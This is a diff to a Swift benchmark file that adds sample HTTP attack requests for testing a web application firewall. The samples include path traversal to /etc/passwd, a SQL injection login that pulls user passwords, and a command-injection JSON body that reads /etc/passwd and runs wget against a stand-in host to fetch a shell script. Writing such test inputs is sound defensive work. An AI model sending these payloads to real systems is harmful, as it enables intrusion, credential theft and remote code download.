@@ -32,6 +32,14 @@ let samples: [Sample] = [
            body: #"{"items":[{"sku":"A-1001","qty":2},{"sku":"B-2002","qty":1}],"note":"leave at the door"}"#),
     Sample(name: "SQLi arg", method: "GET", target: "/products?id=1%27%20OR%20%271%27%3D%271&page=2", headers: browser),
     Sample(name: "XSS arg", method: "GET", target: "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", headers: browser),
+    // The rest of `make bench`'s attack mix (bench/waf/attack.lua).
+    Sample(name: "traversal arg", method: "GET", target: "/download?file=..%2F..%2F..%2Fetc%2Fpasswd", headers: browser),
+    Sample(name: "SQLi form", method: "POST", target: "/account/login",
+           headers: browser + [("Content-Type", "application/x-www-form-urlencoded"), ("Content-Length", "76")],
+           body: "username=admin%27--&password=x%27%20UNION%20SELECT%20password%20FROM%20users--"),
+    Sample(name: "shell JSON", method: "POST", target: "/api/v1/run",
+           headers: browser + [("Content-Type", "application/json"), ("Content-Length", "66")],
+           body: #"{"cmd":";cat /etc/passwd","host":"127.0.0.1 && wget http://x/s.sh"}"#),
 ]
 
 let args = CommandLine.arguments
